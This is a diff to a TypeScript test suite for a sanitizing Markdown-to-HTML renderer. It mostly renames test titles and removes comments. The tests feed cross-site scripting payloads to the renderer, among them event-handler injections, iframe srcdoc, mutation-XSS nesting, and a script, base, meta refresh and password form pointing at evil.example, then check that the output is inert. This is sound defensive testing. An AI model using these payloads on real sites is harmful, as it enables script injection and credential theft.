@@ -5,7 +5,6 @@ import { renderMarkdown } from "./markdown.ts";
 type Node = DefaultTreeAdapterTypes.ChildNode;
 type Element = DefaultTreeAdapterTypes.Element;
 
-/** What a browser makes of a text's HTML: every element, in order. */
 function elementsOf(markdown: string): Element[] {
   const found: Element[] = [];
   const visit = (nodes: readonly Node[]) => {
@@ -31,13 +30,12 @@ const harmless = new Set(
 );
 const attributes = new Set(["a href", "a rel", "ol start"]);
 
-/** The faults of a text's HTML: elements, attributes and addresses that the page must not have. */
 function faultsOf(markdown: string): string[] {
   return elementsOf(markdown).flatMap(({ tagName, attrs }) => [
     ...(harmless.has(tagName) ? [] : [tagName]),
     ...attrs.flatMap(({ name, value }) => {
       if (!attributes.has(`${tagName} ${name}`)) return [`${tagName} ${name}`];
-      // As a browser reads an address: with white space and control characters left out.
+      // Parses like a browser, without white space and control characters.
       if (name === "href" && !["http:", "https:", "mailto:"].includes(new URL(value, "file:///").protocol))
         return [value];
       return [];
@@ -85,11 +83,11 @@ describe.each(scripts)("the address %j", (address) => {
     ["a link with a title", `[click](${address} "title")`],
     ["a reference", `[click][1]\n\n[1]: ${address}`],
     ["a reference in angle brackets", `[click][1]\n\n[1]: <${address}>`],
-    ["an address by itself", `<${address}>`],
+    ["an autolink", `<${address}>`],
     ["text", address],
     ["an image", `![click](${address})`],
     ["an image within a link", `[![click](${address})](${address})`],
-  ])("in %s leads nowhere", (_what, markdown) => {
+  ])("in %s is not a link", (_what, markdown) => {
     expect(faultsOf(markdown)).toEqual([]);
     expect(hrefsOf(markdown).filter((href) => !/^https?:\/\/|^mailto:/.test(href))).toEqual([]);
   });
@@ -100,7 +98,7 @@ test.each([
   ["a script within a paragraph", "a <script src=//evil.example/x.js></script> b"],
   ["an image that fails", "<img src=x onerror=alert(1)>"],
   ["an image with a slash", "<img/src='x'/onerror=alert(1)>"],
-  ["a vector image", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"],
+  ["an SVG image", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"],
   [
     "mathematics",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
@@ -108,22 +106,22 @@ test.each([
   ["a frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
   ["a style sheet", "<style>*{display:none}</style>"],
   ["a base", "<base href=//evil.example>"],
-  ["a refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>"],
+  ["a meta refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>"],
   ["a form", "<form action=//evil.example><input name=password></form>"],
   ["a comment", "<!--><img src=x onerror=alert(1)>-->"],
-  ["an instruction", "<?xml version='1.0'?><x onclick=alert(1)>"],
-  ["a section of characters", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
+  ["a processing instruction", "<?xml version='1.0'?><x onclick=alert(1)>"],
+  ["a CDATA section", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
   ["an unclosed element", "<a href='https://example.com' onclick=alert(1)"],
   ["an event in a link's title", `[a](https://example.com "\\" onmouseover=alert(1) x=\\"")`],
   ["an event in a link's address", `[a](https://example.com/"onmouseover="alert(1))`],
-  ["an event in an address by itself", `<https://example.com/"onmouseover="alert(1)>`],
-  ["an event in an address of text", `https://example.com/"onmouseover="alert(1)`],
+  ["an event in an autolink", `<https://example.com/"onmouseover="alert(1)>`],
+  ["an event in a bare address", `https://example.com/"onmouseover="alert(1)`],
   ["entities of an element", "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;"],
-  ["entities doubled", "&amp;lt;script&amp;gt;"],
+  ["double-escaped entities", "&amp;lt;script&amp;gt;"],
   ["code that ends its element", "`</code><script>alert(1)</script>`"],
   ["a fence that ends its element", "```\n</code></pre><script>alert(1)</script>\n```"],
   ["a fence's language", '```x" onclick="alert(1)\nx\n```'],
-  ["code by indentation", "    </pre><img src=x onerror=alert(1)>"],
+  ["indented code", "    </pre><img src=x onerror=alert(1)>"],
   ["an image's description", `![<img src=x onerror=alert(1)>"'](https://example.com/x.png)`],
   ["a table's cells", "|<script>|\n|:-:|\n|<img src=x onerror=alert(1)>|"],
   ["a heading", "# <script>alert(1)</script>"],
@@ -132,18 +130,18 @@ test.each([
   ["an image within a link's text", "[![x](https://example.com/a.png)](https://example.com)"],
   ["a reference's title", `[a]\n\n[a]: https://example.com '"><script>alert(1)</script>'`],
   ["a quote within a list within a quote", "> - > <script>alert(1)</script>"],
-  ["NUL and half a character", "<scr\0ipt>alert(1)</scr\0ipt> \ud800"],
+  ["NUL and a lone surrogate", "<scr\0ipt>alert(1)</scr\0ipt> \ud800"],
   ["a long row of quotes", `${"> ".repeat(200)}<script>alert(1)</script>`],
   ["a wide table", `${"|<b>".repeat(3000)}|\n${"|-".repeat(3000)}|`],
-])("%s is text, or nothing at all", (_what, markdown) => {
+])("%s is shown as text, or not at all", (_what, markdown) => {
   expect(faultsOf(markdown)).toEqual([]);
 });
 
-test("raw HTML is shown as it was written", () => {
+test("raw HTML is shown as written", () => {
   expect(shownText("a <b onclick=x>bold</b> <!-- c -->")).toBe("a <b onclick=x>bold</b> <!-- c -->");
 });
 
-test("links say nothing of the page that they are on, and pass on none of its standing", () => {
+test("links send no referrer and pass on no ranking", () => {
   const links = elementsOf(
     "[a](https://example.com/?a=1&b=2) <https://b.example> https://c.example x@d.example",
   ).filter(({ tagName }) => tagName === "a");
@@ -155,19 +153,19 @@ test("links say nothing of the page that they are on, and pass on none of its st
   );
 });
 
-test("names of files are no links", () => {
+test("file names are not links", () => {
   expect(hrefsOf("See README.md and example.sh, or 10.0.0.1")).toEqual([]);
 });
 
-test("headings stay below those of the page", () => {
+test("headings are below those of the page", () => {
   expect(tagsOf("# a\n## b\n### c\n###### d\n\ne\n===")).toEqual(["h4", "h5", "h6", "h6", "h4"]);
 });
 
-test("images are their description, and nothing is fetched", () => {
+test("images are replaced by their description, and nothing is fetched", () => {
   expect(shownText("before ![a *fine* chart](https://example.com/a.png) after")).toBe("before a fine chart after");
 });
 
-test("what people write looks as they mean it", () => {
+test("renders common Markdown as intended", () => {
   expect(tagsOf("**a** *b* ~~c~~ `d`\n\n1. e\n2. f\n\n- g\n\n> h\n\n---\n\n```\ni\n```")).toEqual(
     "p strong em s code ol li li ul li blockquote p hr pre code".split(" "),
   );
@@ -182,36 +180,36 @@ describe("a hostile text", () => {
     ["quotes in quotes", filled("> ")],
     ["lists in lists", filled("- + ")],
     ["quotes in lists", filled("> - ")],
-    ["lists by indentation", Array.from({ length: 60 }, (_none, at) => `${"  ".repeat(at)}- a`).join("\n")],
-  ])("of %s loses nothing: it is shown as it is", (_what, markdown) => {
+    ["indented lists", Array.from({ length: 60 }, (_none, at) => `${"  ".repeat(at)}- a`).join("\n")],
+  ])("of %s is shown as plain text, completely", (_what, markdown) => {
     expect(shownText(markdown).replace(/\s/g, "")).toBe(markdown.replace(/\s/g, ""));
   });
 
   test.each([
     ["brackets", filled("[")],
-    ["links that are not closed", filled("[a](")],
+    ["unclosed links", filled("[a](")],
     ["emphasis", filled("*a _b **c ")],
-    ["emphasis that is never closed", filled("*")],
+    ["unclosed emphasis", filled("*")],
     ["backticks", Array.from({ length: 80 }, (_none, at) => "`".repeat(at)).join(" ")],
     ["angle brackets", filled("<a ")],
     ["entities", filled("&#1")],
     ["references", filled("[a]: b\n")],
     ["a table of many columns", wide(600).slice(0, 4000)],
-    ["a table of rows that are filled up", `|${"a|".repeat(20)}\n|${"-|".repeat(20)}\n${"|\n".repeat(200)}`],
+    ["a table of short rows", `|${"a|".repeat(20)}\n|${"-|".repeat(20)}\n${"|\n".repeat(200)}`],
     ["a table of many rows", `a|b\n-|-\n${filled("a|b\n")}`],
-    ["lines that belong to a deep quote", `${"> ".repeat(30)}a\n${filled("a\n")}`],
-  ])("of %s grows by little", (_what, markdown) => {
+    ["lines that continue a deep quote", `${"> ".repeat(30)}a\n${filled("a\n")}`],
+  ])("of %s grows only a little", (_what, markdown) => {
     expect(renderMarkdown(markdown).length).toBeLessThan(8 * markdown.length + 2000);
     expect(faultsOf(markdown)).toEqual([]);
   });
 
-  test("with a table of too many cells is text: to fill them up would take long", () => {
+  test("with a table of too many cells is plain text, since filling it up would take long", () => {
     const table = `|${"a|".repeat(60)}\n|${"-|".repeat(60)}\n${"|\n".repeat(120)}`;
     expect(tagsOf(`${"word ".repeat(4000)}\n\n${table}`)).not.toContain("table");
   });
 });
 
-test("shows blank lines of code as one", () => {
+test("shows blank lines in code as one", () => {
   const lines = `a\n\nb\n${" \n".repeat(2)}c\n${"\n".repeat(40_000)}d`;
   expect(renderMarkdown(`\`\`\`\n${lines}\n\`\`\``)).toBe("<pre><code>a\n\nb\n\nc\n\nd\n</code></pre>");
 });
